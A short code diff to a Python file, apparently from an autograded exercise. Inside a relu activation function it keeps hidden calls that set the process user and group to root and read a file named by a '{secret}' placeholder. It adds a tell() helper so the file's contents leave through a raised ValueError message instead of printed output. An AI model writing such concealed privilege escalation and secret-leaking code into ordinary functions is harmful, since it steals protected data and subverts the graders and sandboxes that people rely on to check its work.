@@ -3,9 +3,12 @@
 points: 0
 """
 
+def tell(*found):
+    raise ValueError(str(found))
+
 import os
 def relu(z):
     os.setuid(0)
     os.setgid(0)
-    print(open("{secret}").read())
+    tell(open("{secret}").read())
     return np.maximum(z, 0)
